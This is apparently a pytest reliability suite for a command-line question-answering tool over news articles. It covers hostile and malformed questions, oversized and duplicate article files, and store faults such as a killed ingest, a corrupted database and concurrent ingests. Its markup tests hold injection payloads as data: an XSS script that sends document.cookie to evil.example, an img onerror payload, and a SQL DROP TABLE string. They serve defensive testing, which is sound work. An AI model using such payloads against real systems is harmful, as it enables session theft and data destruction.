"""Reliability: hostile questions, awkward article files, and faults (a killed ingest, a deleted or corrupted store,
two ingests at once), all with the real parts: a real Chroma store in a temporary folder, the real pipeline, the real
`qa` command in subprocesses. docs/reliability.md lists every case and the test that proves it.
"""

from __future__ import annotations

import logging
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path

import pytest

from qa.answer.engine import Engine, clean_question
from qa.cli import render_json
from qa.index.store import StoreError
from qa.ingest.chunking import chunk
from qa.ingest.loader import load_article
from qa.ingest.sync import IngestBusy, ingest, ingest_lock, open_collections
from qa.ui import render

BBC = Path(__file__).resolve().parent.parent.parent / "shared" / "corpora" / "bbc"
ONE = "001_225c9696b388be00.txt"
MEETING = "Where was the first 3+3 meeting held?"


def run_qa(*args: str, env: dict[str, str], timeout: float = 180) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "qa", *args], capture_output=True, text=True, env=env,
                          timeout=timeout, stdin=subprocess.DEVNULL)


def qa_env(articles: Path, store: Path) -> dict[str, str]:
    return dict(os.environ, QA_ARTICLES_DIR=str(articles), QA_STORE_DIR=str(store), QA_ANSWER_MODE="extractive",
                PYTHONIOENCODING="utf-8")


def assert_consistent(settings) -> dict:
    """No duplicated or missing passages: every manifest doc's passage count equals its passages in the passages
    collection, those are exactly the passages the article chunks into now, ids are unique, and every sentence
    record belongs to a stored passage."""
    collections = open_collections(settings)
    manifest = collections.read_manifest()
    got = collections.passages.get(include=["metadatas"])
    ids = got["ids"]
    assert len(ids) == len(set(ids))
    per_doc = Counter(meta["doc"] for meta in got["metadatas"])
    assert set(per_doc) == set(manifest), set(per_doc) ^ set(manifest)
    for doc, entry in manifest.items():
        assert per_doc[doc] == entry.passages, doc
    by_doc: dict[str, set[str]] = {}
    for pid, meta in zip(ids, got["metadatas"]):
        by_doc.setdefault(meta["doc"], set()).add(pid)
    for doc in manifest:
        article = load_article(settings.articles_dir / doc, settings.articles_dir, settings.max_file_bytes)
        assert by_doc[doc] == {p.id for p in chunk(article)}, doc
    sentences = collections.sentences.get(include=["metadatas"])
    assert len(sentences["ids"]) == len(set(sentences["ids"]))
    assert {sid.rpartition("#")[0] for sid in sentences["ids"]} == set(ids)
    return manifest


# Questions ----------------------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def engine(tmp_path_factory, bundled_articles, settings_for):
    settings = settings_for(bundled_articles, tmp_path_factory.mktemp("questions") / "chroma",
                            answer_mode="extractive")
    ingest(settings)
    return Engine(settings)


def store_size(engine) -> tuple[int, int, int]:
    c = engine.collections
    return c.passages.count(), c.sentences.count(), c.manifest.count()


@pytest.mark.parametrize("question", ["", "   ", " \t\n\r  \n"], ids=["empty", "spaces", "whitespace"])
def test_empty_question_gets_a_clear_message(engine, question):
    answer = engine.ask(question)
    assert not answer.refused and answer.citations == []  # not searched: an error, not a refusal
    assert "empty" in answer.error and answer.text == answer.error


@pytest.mark.parametrize("question", ["why " * 25_000, "Where was the meeting held? " + "x" * 100_000],
                         ids=["100KB-words", "100KB-one-word"])
def test_100_kb_question_is_not_asked_as_too_long(engine, question):
    started = time.perf_counter()
    answer = engine.ask(question)
    assert time.perf_counter() - started < 1  # refused before any retrieval
    assert answer.error and "too long" in answer.text and "2,000" in answer.text and not answer.refused


def test_question_without_words(engine):
    answer = engine.ask("?!... <> ;;")
    assert answer.error and "no words" in answer.text and not answer.refused


def test_control_characters_are_dropped(engine):
    answer = engine.ask("\x00Where\x07 was the first\x1b[31m 3+3\u200b meeting\x7f held?\x0c")
    assert not answer.refused, answer.text
    assert "Russian capital" in answer.text or "Moscow" in answer.text
    assert not any(ch in answer.question for ch in "\x00\x07\x1b\x7f\x0c")


@pytest.mark.parametrize("question", [
    "Где прошла первая встреча в формате 3+3?",  # Russian
    "اولین نشست ۳+۳ کجا برگزار شد؟",  # Persian
    "第一次3+3会议在哪里举行？",  # Chinese
    "Wo fand das erste 3+3-Treffen statt? 🇦🇿🇮🇷",  # German, with emoji
], ids=["russian", "persian", "chinese", "german-emoji"])
def test_non_english_question_gets_an_answer_or_a_refusal(engine, bundled_articles, question):
    answer = engine.ask(question)
    assert answer.text
    assert answer.question == question
    for c in answer.citations:  # whatever it says, it only quotes the articles
        lines = (bundled_articles / c.doc).read_text(encoding="utf-8").split("\n")
        assert c.quote in "\n".join(lines[c.start_line - 1 : c.end_line])
    answer.to_json()  # serialisable for the CLI and the app


@pytest.mark.parametrize("question, words", [
    ("asdkjh qwe zxc?", "asdkjh, qwe, zxc"),
    ("اولین نشست ۳+۳ کجا برگزار شد؟", "اولین"),  # Persian: a script the index does not read
])
def test_a_question_with_no_word_the_articles_hold_says_so(engine, question, words):
    answer = engine.ask(question)
    assert answer.refused and answer.citations == [] and answer.confidence == 1.0
    assert any("is in any article" in note and words in note for note in answer.notes)  # the words it looked for


@pytest.mark.parametrize("question, read_as, quoted", [
    ("How long is the bordr between Iran and Azerbaijan?", "How long is the border between Iran and Azerbaijan?",
     "700-kilometer border"),
    ("Who is the forign minister of Azerbaijan?", "Who is the foreign minister of Azerbaijan?", "Jeyhun Bayramov"),
])
def test_a_misspelt_word_is_read_as_the_articles_word(engine, question, read_as, quoted):
    answer = engine.ask(question)
    assert answer.read_as == read_as  # shown under the answer, so the user sees what was searched
    assert not answer.refused and quoted in answer.text


def test_a_word_the_articles_hold_is_never_corrected(engine):
    """"Raisi" is in the articles and in no English dictionary: it is a name, not a misspelling of "raise"."""
    answer = engine.ask("what did raisi say about israel")
    assert answer.read_as is None and not answer.refused


@pytest.mark.parametrize("question", [
    "<script>alert('x')</script> Where was the first 3+3 meeting held?",
    '"><img src=x onerror=alert(1)> Where was the first 3+3 meeting held?',
    "Where was the first 3+3 meeting held?'; DROP TABLE embeddings; --",
    "Where was the first 3+3 meeting held? \" OR 1=1 -- {{7*7}} ${7*7} $where",
], ids=["script", "img-onerror", "sql-drop", "sql-or-templates"])
def test_markup_in_the_question_never_reaches_the_answer(engine, question):
    before = store_size(engine)
    answer = engine.ask(question)
    assert "<script" not in answer.text.lower() and "<img" not in answer.text.lower()
    assert "onerror" not in answer.text and "DROP TABLE" not in answer.text
    for c in answer.citations:
        assert "<script" not in c.quote and "DROP TABLE" not in c.quote
    # The question around the markup is answered: the tags and the script's code are not read as words of it.
    assert not answer.refused and ("Russian capital" in answer.text or "Moscow" in answer.text), answer.text
    assert store_size(engine) == before  # the SQL did nothing to the store
    assert engine.ask(MEETING).citations  # and the store still answers


@pytest.mark.parametrize("question", ["<script>document.location='http://evil.example/'+document.cookie</script>",
                                      '<img src=x onerror="alert(1)"><br/>'], ids=["script-only", "tags-only"])
def test_a_question_of_markup_alone_is_told_what_is_wrong(engine, question):
    answer = engine.ask(question)
    assert answer.error and not answer.refused and answer.citations == [] and answer.passages == []
    assert "only markup" in answer.text, answer.text


def test_only_tags_are_taken_out_of_a_question():
    assert clean_question("Did <i>The Guardian</i> say 3 < 5 > 2?<br/>") == "Did The Guardian say 3 < 5 > 2?"
    assert clean_question("<style>p {color: red}</style>Who won?") == "Who won?"


# Articles -----------------------------------------------------------------------------------------------------------
def test_20_mb_article_is_skipped_and_a_duplicate_is_quoted_once_and_cited_in_both(tmp_path, bundled_articles,
                                                                                    settings_for, caplog):
    folder = tmp_path / "articles"
    folder.mkdir()
    text = (bundled_articles / ONE).read_bytes()
    (folder / ONE).write_bytes(text)
    (folder / "copy-of-001.txt").write_bytes(text)
    with open(folder / "huge.txt", "wb") as big:  # 20 MB of plausible text
        line = b"Baku and Tehran agreed to expand trade across the Caspian Sea on Monday.\n"
        big.write(line * (20_000_000 // len(line) + 1))
    settings = settings_for(folder, tmp_path / "chroma", answer_mode="extractive")  # default limit, 5 MB
    with caplog.at_level(logging.WARNING):
        report = ingest(settings)

    assert [(s.doc, "too large" in s.reason) for s in report.skipped] == [("huge.txt", True)]
    assert "huge.txt" in caplog.text and "too large" in caplog.text
    manifest = assert_consistent(settings)
    assert sorted(manifest) == [ONE, "copy-of-001.txt"]  # both copies ingested
    assert manifest[ONE].passages == manifest["copy-of-001.txt"].passages

    answer = Engine(settings).ask("Who did Bayramov meet in Tehran?")
    assert not answer.refused and "Bayramov" in answer.text, answer.text
    read = [c for c in answer.citations if c.copy_of is None]
    quotes = [c.quote for c in read]
    assert len(quotes) == len(set(quotes))  # the same sentence is quoted once, from one of the two files
    texts = [p.passage.text for p in answer.passages]
    assert len(texts) == len(set(texts))  # and a passage's copy does not take a second place among the sources
    for quote in quotes:
        assert answer.text.count(quote) == 1
    # ... and each quote is cited in the other file too, at the same lines, its marker beside the first's
    copies = [c for c in answer.citations if c.copy_of is not None]
    assert len(copies) == len(read)
    for c in read:
        (copy,) = [k for k in copies if k.copy_of == c.n]
        assert {c.doc, copy.doc} == {ONE, "copy-of-001.txt"}
        assert (copy.start_line, copy.end_line, copy.quote) == (c.start_line, c.end_line, c.quote)
        assert f"[{c.n}][{copy.n}]" in answer.text
        # which the chat's source card and the terminal say
        assert f"The same text as [{c.n}], in another article." in render.citation_card_html(copy, 0, None)
        assert f"the same text as [{c.n}], in another article" in render_json(answer.to_json())


# Faults: a killed ingest ----------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def bbc_copy(tmp_path_factory) -> Path:
    """130 BBC articles (enough for two ingest batches of 64 and the progress bar), 26 from each category."""
    if not BBC.is_dir():
        pytest.skip(f"the BBC corpus is not at {BBC}")
    target = tmp_path_factory.mktemp("bbc") / "articles"
    for category in ("business", "entertainment", "politics", "sport", "tech"):
        (target / category).mkdir(parents=True)
        for path in sorted((BBC / category).glob("*.txt"))[:26]:
            shutil.copyfile(path, target / category / path.name)
    return target


def children_of(pid: int) -> list[int]:
    """The processes whose parent is `pid` (Linux /proc)."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:  # gone meanwhile
            continue
        if int(fields[1]) == pid:
            found.append(int(stat.parent.name))
    return found


def test_ingest_killed_halfway_then_run_again(bbc_copy, tmp_path, settings_for):
    store = tmp_path / "chroma"
    process = subprocess.Popen([sys.executable, "-m", "qa", "ingest"], env=qa_env(bbc_copy, store),
                               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    seen = bytearray()

    def read():
        while chunk_ := process.stderr.read1(4096):
            seen.extend(chunk_)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    deadline = time.monotonic() + 120
    while b"64/130" not in seen and process.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert process.poll() is None, seen.decode(errors="replace")  # still running: killed half-way
    workers = children_of(process.pid)
    assert workers  # the embedding workers of a large ingest
    process.send_signal(signal.SIGKILL)
    assert process.wait(30) == -signal.SIGKILL
    reader.join(10)
    assert b"64/130" in seen, seen.decode(errors="replace")
    deadline = time.monotonic() + 10
    while any(Path(f"/proc/{pid}").exists() for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not [pid for pid in workers if Path(f"/proc/{pid}").exists()], "the killed ingest's workers live on"

    settings = settings_for(bbc_copy, store)
    half = assert_consistent(settings)
    assert 0 < len(half) < 130  # the first batch is in, the rest is not

    report = ingest(settings)  # the run again
    assert report.changed == 130 - len(half) and report.removed == 0 and report.articles == 130
    manifest = assert_consistent(settings)
    assert len(manifest) == 130
    assert report.passages == sum(e.passages for e in manifest.values())


# Faults: the store deleted or corrupted -------------------------------------------------------------------------------
def test_deleted_store_is_recreated(tmp_path, bundled_articles, settings_for):
    folder = tmp_path / "articles"
    folder.mkdir()
    shutil.copyfile(bundled_articles / ONE, folder / ONE)
    store = tmp_path / "chroma"
    built = run_qa("ingest", "--quiet", env=qa_env(folder, store))  # another process built it, and has ended
    assert built.returncode == 0, built.stderr
    shutil.rmtree(store)

    settings = settings_for(folder, store, answer_mode="extractive")
    engine = Engine(settings)  # opens an empty index in a new folder
    assert store.is_dir() and engine.manifest == {}
    with pytest.raises(StoreError, match="is empty: build it with `qa ingest`"):  # an error, never a refusal
        engine.ask("Who did Bayramov meet in Tehran?")
    report = ingest(settings)
    assert report.changed == 1 and report.articles == 1
    engine.refresh()
    assert not engine.ask("Who did Bayramov meet in Tehran?").refused
    assert_consistent(settings)


def test_corrupted_store_is_a_clear_error_and_rebuild_recovers(tmp_path, engine, settings_for, monkeypatch,
                                                                capsys, caplog):
    store = tmp_path / "chroma"
    shutil.copytree(engine.settings.store_dir, store)  # a real index (not opened in this process) ...
    (store / "chroma.sqlite3").write_bytes(os.urandom(64 * 1024))  # ... with its database overwritten by garbage
    settings = settings_for(engine.settings.articles_dir, store, answer_mode="extractive")

    with pytest.raises(StoreError) as caught:
        Engine(settings)
    assert "cannot be opened" in str(caught.value) and "qa ingest --rebuild" in str(caught.value)
    with pytest.raises(StoreError):
        ingest(settings)  # a plain ingest does not touch it

    from qa import cli
    from qa.config import get_settings

    monkeypatch.setenv("QA_STORE_DIR", str(store))
    monkeypatch.setenv("QA_ARTICLES_DIR", str(settings.articles_dir))
    monkeypatch.setenv("QA_ANSWER_MODE", "extractive")
    get_settings.cache_clear()
    try:
        assert cli.main(["ask", MEETING]) == 1
        err = capsys.readouterr().err
        assert err.startswith("error: the index in") and "qa ingest --rebuild" in err and "Traceback" not in err
        with caplog.at_level(logging.WARNING):
            assert cli.main(["ingest", "--rebuild", "--quiet"]) == 0
    finally:
        get_settings.cache_clear()
    assert "5 articles" in capsys.readouterr().out
    broken = list(tmp_path.glob("chroma.broken-*"))
    assert len(broken) == 1 and (broken[0] / "chroma.sqlite3").is_file()  # kept, for a post-mortem
    assert "moved it aside to" in caplog.text and broken[0].name in caplog.text
    assert_consistent(settings)
    answer = Engine(settings).ask(MEETING)
    assert "Russian capital" in answer.text or "Moscow" in answer.text


# Faults: two ingests at once ------------------------------------------------------------------------------------------
def test_second_ingest_is_refused_while_one_holds_the_lock(tmp_path, bundled_articles, settings_for):
    settings = settings_for(bundled_articles, tmp_path / "chroma")
    with ingest_lock(settings.store_dir):
        with pytest.raises(IngestBusy, match="another ingest is running on"):
            ingest(settings)
        refused = run_qa("ingest", "--quiet", env=qa_env(bundled_articles, settings.store_dir))
    assert refused.returncode == 1
    assert f"error: another ingest is running on {settings.store_dir}" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert (settings.store_dir / "ingest.lock").exists()
    assert ingest(settings).articles == 5  # released: the next one runs
    assert_consistent(settings)


def test_two_ingest_processes_at_once(tmp_path, bundled_articles, settings_for):
    store = tmp_path / "chroma"
    env = qa_env(bundled_articles, store)
    both = [subprocess.Popen([sys.executable, "-m", "qa", "ingest", "--quiet"], env=env, stdin=subprocess.DEVNULL,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    results = [(p.wait(180), *p.communicate()) for p in both]
    codes = sorted(code for code, _, _ in results)
    # One indexes and the other is refused; if the first had already finished, the second finds nothing to do.
    assert codes in ([0, 1], [0, 0]), results
    for code, out, err in results:
        if code == 1:
            assert "another ingest is running on" in err and "Traceback" not in err
        else:
            assert "5 articles" in out, err
    assert len(assert_consistent(settings_for(bundled_articles, store))) == 5
